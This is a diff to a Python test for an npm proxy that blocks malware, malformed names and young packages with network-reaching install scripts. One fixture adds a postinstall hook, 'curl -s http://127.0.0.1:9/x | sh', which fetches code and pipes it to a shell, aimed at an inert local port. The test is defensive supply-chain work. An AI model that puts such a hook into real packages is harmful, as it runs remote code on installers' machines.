@@ -108,10 +108,10 @@ def _drive(proxy: MirrorgateProcess, shedding: MirrorgateProcess, npm: NpmClient
     denied = http_request("GET", proxy.registry_url + "deny-me/-/deny-me-1.0.1.tgz")
     assert denied.status == 403
     assert http_request("GET", proxy.registry_url + "scripted").status == 200  # would-deny
-    # a package two days old whose release runs code at install: the default release signal
+    # a package two days old whose install script reaches the network: the default signal
     young = http_request("GET", proxy.registry_url + "fresh-hooks/-/fresh-hooks-1.0.0.tgz")
     assert young.status == 403
-    assert young.json()["rule"] == "young-package-install-script"
+    assert young.json()["rule"] == "young-package-capability"
     assert http_request("GET", proxy.registry_url + "a%0ab").status == 400  # a refused name
     wait_for(lambda: http_request("GET", proxy.registry_url + "evil-pkg").status == 403,
              timeout=15, message="the advisory index loaded and the malware denied")
@@ -144,7 +144,8 @@ def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
                              make_package("evil-pkg", ["1.0.0"]),
                              make_package("fresh-hooks", [install_script_version(
                                  "fresh-hooks", "1.0.0",
-                                 published=datetime.now(UTC) - timedelta(days=2))]),
+                                 published=datetime.now(UTC) - timedelta(days=2),
+                                 scripts={"postinstall": "curl -s http://127.0.0.1:9/x | sh"})]),
                              make_package("broken-pkg", ["1.0.0"]),
                              make_package("slow-pkg", ["1.0.0"]))
     with serving(public, "the fixture registry") as registry:
